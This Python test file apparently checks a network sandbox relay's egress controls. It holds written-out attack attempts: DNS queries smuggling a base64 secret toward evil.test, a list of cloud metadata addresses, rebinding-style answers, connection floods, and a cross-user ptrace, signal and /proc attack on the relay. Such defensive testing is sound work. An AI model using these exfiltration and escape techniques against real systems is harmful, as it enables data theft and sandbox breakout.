#!/usr/bin/env python3
"""Attacks on the relay and around it: the N rows of tests/walls/attacks.tsv. Every refusal has a control: the same act
outside of the sandbox arrives.
hostile.py root|user"""
import ctypes
import json
import os
import pathlib
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

import run
from addresses import DNS, ECHO, LITERAL, SILENT, WEB
from world import World

TCP = {"protocol": "tcp"}
METADATA = ("169.254.169.254", "fd00:ec2::254", "fd20:ce::254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:42::42")


def policy(*peers, ports=(80,)):
    to = [{"cidr": peer} if "/" in peer else {"host": peer} for peer in peers]
    return {"version": "1.0.0", "network": {"egress": {"allow": [{"to": to, "ports": [{**TCP, "port": port} for port in ports]}]}}}


WIDE = policy("web.test", "0.0.0.0/0", "::/0")
NARROW = policy("web.test", "*.web.test", "echo.test", ports=(80, 7000))


def act(t, rules, *acts, timeout=60):
    got = t.run("python3", "-I", str(t.script), *acts, policy=rules, timeout=timeout)
    lines = [json.loads(line) for line in got["stdout"].splitlines()]
    if len(lines) != len(acts):
        raise RuntimeError(f"the client ended early: {got}")
    return lines


def outside(t, *acts):
    """The same on the host, as the same user: the control."""
    done = subprocess.run([*t.wrap, sys.executable, "-I", str(t.script), *acts], capture_output=True, text=True, check=True)
    return [json.loads(line) for line in done.stdout.splitlines()]


# ---- names

def question(labels, kind=1, flags=0x100, count=1, more=b"", klass=1, extra=0):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return (struct.pack(">HHHHHH", 4711, flags, count, 0, 0, extra) + name + struct.pack(">HH", kind, klass) + more).hex()


def smuggled():
    """(what, packet): data in every part of a question."""
    secret = b"c2VjcmV0"
    evil = [b"evil", b"test"]
    for kind, what in ((1, "A"), (2, "NS"), (5, "CNAME"), (6, "SOA"), (10, "NULL"), (12, "PTR"), (15, "MX"), (16, "TXT"), (28, "AAAA"),
                       (33, "SRV"), (35, "NAPTR"), (64, "SVCB"), (65, "HTTPS"), (249, "TKEY"), (251, "IXFR"), (252, "AXFR"),
                       (255, "ANY"), (65399, "a private type")):
        yield what, question([secret, *evil], kind)
    yield "a label of 63", question([b"a" * 63, *evil])
    yield "a name of 255", question([b"a" * 63, b"b" * 63, b"c" * 63, b"d" * 52, *evil])
    yield "bytes that are in no name", question([bytes(range(1, 32)) + b"\xff\x80", *evil])
    yield "a NUL, then the granted name", question([b"evil\0web", b"test"])
    yield "a dot inside a label", question([b"evil.web", b"test"])
    yield "the granted name as a prefix", question([b"web", b"test", *evil])
    yield "EDNS with an option", question([secret, *evil], extra=1, more=b"\0\0\x29\x10\0\0\0\0\0\0\x0e\xfd\xe9\0\x0a" + secret + b"xx")
    yield "EDNS, DNSSEC wanted", question([secret, *evil], extra=1, more=b"\0\0\x29\x10\0\0\0\x80\0\0\0")
    yield "two questions", question([b"web", b"test"], count=2, more=b"\x04evil\x04test\0\0\x01\0\x01")
    yield "another class", question([secret, *evil], 16, klass=3)
    yield "without recursion", question([secret, *evil], flags=0)
    for opcode, what in ((1, "inverse query"), (2, "status"), (4, "notify"), (5, "update")):
        yield what, question([secret, *evil], flags=0x100 | opcode << 11)
    yield "an answer", question([secret, *evil], flags=0x8180)
    yield "trailing bytes", question([b"web", b"test"], 16, more=secret * 20)


def names_as_letters(t):
    """N9: nothing of a question leaves, whatever it is and whoever is asked."""
    packets = list(smuggled())
    control = outside(t, *(f"raw {DNS} 53 {packet}" for _, packet in packets))
    t.is_(len(t.arrived()) == len(packets), True, "control: all of them arrive from outside")
    t.is_([line for line in control if line == "closed"], [], "control: answered")
    acts = [f"raw {server} 53 {packet} {over}" for server, over in ((DNS, "udp"), ("8.8.8.8", "udp"), ("2001:db8::53", "udp"), (DNS, "tcp"))
            for _, packet in packets]
    lines = act(t, NARROW, *acts)
    for index, line in enumerate(lines):
        what = packets[index % len(packets)][0]
        t.is_(line in ("TimeoutError: timed out", "closed") or isinstance(line, list) and line[1] == 0, True, f"{what}: {line}")
    t.is_(t.arrived(), [], "nothing arrived")


def granted_names_as_letters(t):
    """N9: a name below a granted suffix is asked for outside only when somebody connects to it."""
    labels = [b"c2VjcmV0LWRhdGE", b"web", b"test"]
    lines = act(t, NARROW, *(f"raw {DNS} 53 {question(labels, kind)} {over}" for kind in (1, 28, 16, 255, 10) for over in ("udp", "tcp")))
    t.is_([line[0] for line in lines], [0] * 10, "the name is there")
    t.is_(t.arrived(), [], "and nothing arrived")
    act(t, NARROW, "connect c2VjcmV0LWRhdGE.web.test 80")
    asked = t.arrived()
    t.is_({entry.get("dns") for entry in asked}, {"c2vjcmv0lwrhdge.web.test"}, "control: connecting asks for it, in its one spelling")
    t.is_({entry.get("type") for entry in asked}, {1, 28}, "by addresses only")


def other_name_services(t):
    """N9: other ports, TLS, HTTPS to a name server."""
    ask = question([b"evil", b"test"])
    lines = act(t, NARROW, *(f"raw {DNS} {port} {ask} {over}" for port, over in ((5353, "udp"), (853, "udp"), (443, "udp"), (784, "udp"),
                                                                               (853, "tcp"), (443, "tcp"), (5353, "tcp"))),
                f"raw 1.1.1.1 443 {ask} tcp", f"raw 1.1.1.1 80 {ask} tcp", f"raw {DNS} 80 {ask} tcp", f"raw 224.0.0.251 5353 {ask}",
                f"raw 127.0.0.53 5353 {ask}")
    for line in lines[:8] + lines[11:]:
        t.is_(line, run.checks.NO_LISTENER, "no such port")
    for line in lines[8:10]:
        t.is_(line in (run.checks.REFUSED, "BrokenPipeError: EPIPE"), True, f"a granted port, not a granted address: {line}")
    t.is_(str(lines[10]).startswith(("OSError", "PermissionError", "ConnectionRefused", "TimeoutError")), True, f"multicast: {lines[10]}")
    t.is_(t.arrived(), [], "nothing arrived")
    outside(t, f"raw {DNS} 53 {ask} tcp")
    t.is_(len(t.arrived()), 1, "control")


def spellings(t):
    """N10, N11: the table of spellings, as a policy's host, as a client's, and as labels of a question."""
    table = [line.split("\t") for line in (run.HERE / "spellings.tsv").read_text().splitlines()[1:]]
    texts = [json.loads(row[0]) for row in table]
    usable = [(text, row) for text, row in zip(texts, table) if "\0" not in text]  # those that C can say
    acts = [f"spell {text.encode().hex()}" for text, _ in usable]
    for (text, row), line in zip(usable, act(t, WIDE, *[one for one in acts if one.strip() != "spell"])):
        t.is_(line == "HTTP/1.0 200", row[2] == "web", f"{text!r} ({row[3]}): {line}")
    came = [entry for entry in t.arrived() if "web" in entry]
    t.is_({entry["web"] for entry in came}, {WEB}, "nobody else was reached")
    t.is_(t.host_came(), 0, "nobody reached the host")
    control = [text for text, row in usable if row[2] == "host"]
    for text in control:
        outside(t, f"spell {text.encode().hex()}")
        t.is_(t.host_came(), 1, f"control: {text!r} reaches the host from outside")
        t.listeners.count = 0
    t.arrived()


def spellings_in_a_policy(t):
    """N10, N12: accepted in one spelling, or refused by pointer."""
    table = [line.split("\t") for line in (run.HERE / "spellings.tsv").read_text().splitlines()[1:]]
    t.is_(len(table) >= 60, True, "sixty of them")
    for row in table:
        rules = policy(json.loads(row[0])) if "/" not in json.loads(row[0]) else None
        rules = rules or {"version": "1.0.0", "network": {"egress": {"allow": [{"to": [{"host": json.loads(row[0])}], "ports": [{**TCP, "port": 80}]}]}}}
        accepted, said = understood(t, rules)
        t.is_(accepted, row[1] == "accepted", f"{row[0]} ({row[3]}): {said}")
        t.is_(accepted or "/network/egress/allow/0/to/0" in said, True, f"{row[0]}: by pointer: {said}")
    for port in (0, 65536, -1, "0443", "443", 443.5, 1e3):
        accepted, said = understood(t, policy("web.test", ports=(port,)))
        t.is_(accepted, False, f"port {port!r}: {said}")
    for block in ("10.0.0.1/8", "010.0.0.0/8", "0x0a.0.0.0/8", "10/8", "10.0.0.0/33", "10.0.0.0/-1", "::ffff:0:0/90", "::/129", "fe80::%lo/10",
                  "10.0.0.0/8 ", "10.0.0.0/08"):
        accepted, said = understood(t, policy(block))
        t.is_(accepted, False, f"block {block!r}: {said}")


def understood(t, rules):
    path = t.folder / "spelled.json"
    path.write_text(json.dumps(rules))
    done = subprocess.run([str(run.BUILD / "bin/mxc"), "explain", "--policy", str(path)], capture_output=True, text=True, check=False)
    return done.returncode == 0, done.stderr


# ---- addresses

def metadata(t):
    """N3: not even with every address and every name granted."""
    rules = policy("*.test", "0.0.0.0/0", "::/0")
    lines = act(t, rules, *(f"connect {address} 80" for address in METADATA), *(f"fastopen {address} 80" for address in METADATA if "." in address),
                f"fetch http://{LITERAL}/")
    for line in lines[:-1]:
        t.is_(line in (run.checks.REFUSED, "OSError: ENOTCONN"), True, f"metadata: {line}")
    t.is_({t.connection(address=address)["outcome"] for address in METADATA}, {"guarded"}, "records")
    t.is_(lines[-1], f"hello from {LITERAL}\n", "control: another address is reached")
    t.arrived()


def answers_that_point_inside(t):
    """N14: a granted name whose answer is an address of every guarded block."""
    guarded = guarded_addresses()
    rules = policy("*.test")
    lines = act(t, rules, *(f"connect g{number}.test 80" for number in range(len(guarded))), "fetch http://web.test/", timeout=120)
    for address, line in zip(guarded, lines):
        t.is_(line, run.checks.REFUSED, address)
    t.is_([entry["outcome"] for entry in t.last["connections"] if entry["name"].startswith("g") and entry["outcome"] != "guarded"], [],
          "records")
    t.is_(lines[-1], "hello from web.test\n", "control")
    t.is_({entry["web"] for entry in t.arrived() if "web" in entry}, {WEB}, "nothing else was dialled")
    t.is_(t.host_came(), 0, "nobody reached the host")


def guarded_addresses():
    text = (run.HERE / "servers.py").read_text()
    begin = text.index('GUARDED = """') + len('GUARDED = """')
    return text[begin:text.index('"""', begin)].split()


def changing_answers(t):
    """N14: the name is somewhere else each time it is asked for."""
    lines = act(t, policy("flip.test"), "later 0 flip.test 80", *["later 1.05 flip.test 80"] * 2)
    t.is_(lines, ["HTTP/1.0 200", run.checks.REFUSED, "HTTP/1.0 200"], "only where it may be")
    arrived = t.arrived()
    t.is_({entry["web"] for entry in arrived if "web" in entry}, {WEB}, "and nowhere else")
    t.is_(sum("dns" in entry for entry in arrived), 6, "one look each, for both kinds of address, and what was found is dialled")


# ---- other ways

def other_families(t):
    """N2, N5: sockets that are not TCP or UDP, and the names of the host's abstract sockets."""
    name = f"mxc-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0" + name)
        server.listen()
        t.is_(outside(t, f"abstract {name}"), ["connected"], "control: abstract socket")
        kinds = [(16, 3, 9), (16, 3, 12), (16, 3, 15), (16, 3, 16), (17, 3), (17, 2), (40, 1), (38, 5), (44, 3), (31, 3), (29, 3), (21, 5), (30, 1), (43, 1), (45, 2), (2, 3), (10, 3), (2, 6), (2, 5)]
        lines = act(t, NARROW, f"abstract {name}", *("family " + " ".join(map(str, words)) for words in kinds), "fetch http://web.test/")
    t.is_(lines[0] in (run.checks.NO_LISTENER, "PermissionError: EPERM"), True, f"abstract socket of the host: {lines[0]}")
    for kind, line in zip(kinds, lines[1:]):
        t.is_(str(line) != "made", True, f"socket{kind}: {line}")
    t.is_(lines[-1], "hello from web.test\n", "control")
    t.arrived()


def early_data(t):
    """N4: data in the first packet gets nowhere that a connection would not."""
    lines = act(t, NARROW, f"fastopen {WEB} 80", f"fastopen {ECHO} 7000", f"fastopen {WEB} 22", "reset_out echo.test 7000")
    for line in lines[:2]:
        t.is_(line in (run.checks.REFUSED, "OSError: ENOTCONN"), True, f"no such rule: {line}")
    t.is_(lines[2], run.checks.NO_LISTENER, "no such port")
    t.is_([entry for entry in t.arrived() if "dns" not in entry], [{"echo": ECHO}], "nothing but the control arrived")
    t.is_(outside(t, f"fastopen {ECHO} 7000")[0].startswith("hello"), True, "control: it arrives from outside")
    t.arrived()
    got = act(t, policy("203.0.113.20/32", ports=(7000,)), f"fastopen {ECHO} 7000")
    t.is_(got[0].startswith("hello"), True, f"control: granted, it works: {got}")
    t.arrived()


def resets(t):
    """N22: a reset is passed on, each way; 64 MiB are in checks.py."""
    lines = act(t, NARROW, "reset echo.test 7000", "reset_out echo.test 7000")
    t.is_(lines, ["ConnectionResetError: ECONNRESET", "reset"], "resets")
    t.is_([entry["outcome"] for entry in t.last["connections"]], ["reset", "reset"], "records")
    t.arrived()


# ---- floods

def facts(pid):
    status = run.Sandbox.status_of(pid)
    return int(status["VmRSS"].split()[0]), len(os.listdir(f"/proc/{pid}/fd"))


def slow_clients(t):
    """N20: connections that say nothing, half a question, half a request; and others are served all the while."""
    half = "0040" + "00" * 10
    acts = ["hold echo.test 7000 300", "hold web.test 80 200 474554", f"hold {DNS} 53 100 {half}", "fetch http://web.test/",
            "hold echo.test 7000 700", "storm echo.test 7000 300", f"questions {DNS} 20000", "lookup web.test", "held echo.test 7000 7000"]
    process = t.start(*acts, policy=NARROW)
    lines = [json.loads(process.stdout.readline()) for _ in range(len(acts) - 1)]
    t.is_(lines[:2], [300, 200], "they stand")
    t.is_(lines[3], "hello from web.test\n", "others are served while they do")
    t.is_(len(lines[7]), 2, "names too, after 20,000 questions")
    memory, files = facts(t.relays()[0])
    t.note(f"the relay below 1,200 silent connections and 20,000 questions: {memory} KiB, {files} descriptors")
    t.is_(memory < 72 << 10 and files < 2300, True, "bounded")
    process.kill()
    process.wait()
    t.arrived()


def a_thousand(t):
    """1,000 connections of one sandbox at the same time, all of them answering; then more than there is room for."""
    lines = act(t, NARROW, "many echo.test 7000 1000", "fetch http://web.test/", "many echo.test 7000 1000")
    t.is_(lines, [1000, "hello from web.test\n", 1000], "1,000 at once, twice")
    t.is_(act(t, NARROW, "crowd echo.test 7000 1200"), ["full"], "more than there is room for")
    t.is_(len(t.last["connections"]) + t.last["connectionsDropped"] >= 64, True, "records")
    t.arrived()


def gone_while_it_dials(t):
    """Clients that leave while their address does not answer take nobody's place, each for the ten seconds of a dial."""
    rules = policy("echo.test", f"{SILENT}/32", ports=(7000,))
    began = time.monotonic()
    for how in ("reset", "end"):
        lines = act(t, rules, f"leave {SILENT} 7000 1500 {how}", "many echo.test 7000 600", "connect echo.test 7000")
        t.is_(lines, ["left", 600, "helloEND 5"], f"1,500 gone ({how}), others are served")
    act(t, rules, f"leave {SILENT} 7000 1 reset", "connect echo.test 7000")
    t.is_(t.connection(address=SILENT)["outcome"], "reset", "the record")
    t.is_(time.monotonic() - began < 8, True, "at once")
    t.arrived()


def slow_keeper(t):
    """What has ended keeps its place until the keeper knows of it: one that is late for that is waited for."""
    process = t.start("wait", f"leave {SILENT} 7000 1500 end", "many echo.test 7000 600",
                      policy=policy("echo.test", f"{SILENT}/32", ports=(7000,)))
    process.stdout.readline()
    keeper = int(t.status_of(t.relays()[0])["PPid"])
    os.kill(keeper, signal.SIGSTOP)
    threading.Timer(0.5, os.kill, (keeper, signal.SIGCONT)).start()
    rest, _ = process.communicate("\n", timeout=20)
    t.is_([json.loads(line) for line in rest.splitlines()], ["goes on", "left", 600], "others are served")
    t.arrived()


# ---- from outside

def someone_else(t):
    """N18, N19: nobody but its keeper can do anything with the relay, and it listens nowhere on the host."""
    before = listening()
    process = t.start("held echo.test 7000 7000", policy=NARROW)
    process.stdout.readline()
    relay = t.relays()[0]
    t.is_(listening() - before, set(), "no new listener on the host")
    tries = "import os, sys; sys.path[:0] = [sys.argv[2]]; import hostile; hostile.attack(int(sys.argv[1]))"
    for uid in (run.USER + 1, run.USER):  # another user, and the caller's own in the case of root
        if uid == run.USER and t.wrap:
            continue
        done = subprocess.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--", sys.executable, "-c", tries, relay,
                               str(run.HERE)], capture_output=True, text=True, check=False, env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
        t.is_((done.stdout.split(), done.stderr), (["EPERM", "EPERM", "EPERM", "EACCES", "EACCES", "EACCES"], ""), f"user {uid}")
    t.is_(process.poll(), None, "control: it is there")
    process.stdin.write("\n")
    process.stdin.flush()
    t.is_(json.loads(process.stdout.readline())[0], "b", "control: the connection still stands")
    process.wait()
    t.arrived()


def attack(pid):
    """As another user: signal, attach, take a descriptor, look."""
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = os.pidfd_open(pid)
    for call, *words in ((libc.kill, pid, signal.SIGSTOP), (libc.ptrace, 16, pid, None, None), (libc.syscall, 438, descriptor, 4, 0)):
        print("done" if call(*words) >= 0 else run.errno_name(ctypes.get_errno()))
    for name in ("fd", "mem", "environ"):
        try:
            print(os.listdir(f"/proc/{pid}/fd") if name == "fd" else open(f"/proc/{pid}/{name}", "rb").read(1))
        except OSError as error:
            print(run.errno_name(error.errno))


def listening():
    """Sockets of the host that wait for somebody: TCP, UDP, unix."""
    found = set()
    for name in ("tcp", "tcp6", "udp", "udp6"):
        rows = pathlib.Path(f"/proc/net/{name}").read_text(encoding="ascii").splitlines()[1:]
        found |= {(name, row.split()[1]) for row in rows if row.split()[3] in ("0A", "07")}
    rows = pathlib.Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]
    return found | {("unix", row.split()[7]) for row in rows if len(row.split()) > 7 and row.split()[3] == "00010000"}


def wait_a_little(t):
    """The last: what came late would be seen here."""
    time.sleep(0.05)
    t.is_((t.host_came(), t.arrived()), (0, []), "nobody came late")


CHECKS = (names_as_letters, granted_names_as_letters, other_name_services, spellings, spellings_in_a_policy, metadata,
          answers_that_point_inside, changing_answers, other_families, early_data, resets, slow_clients, a_thousand, gone_while_it_dials, slow_keeper, someone_else,
          wait_a_little)

if __name__ == "__main__":
    run.main(World, lambda world, folder, role: run.play(world, folder, role, CHECKS))
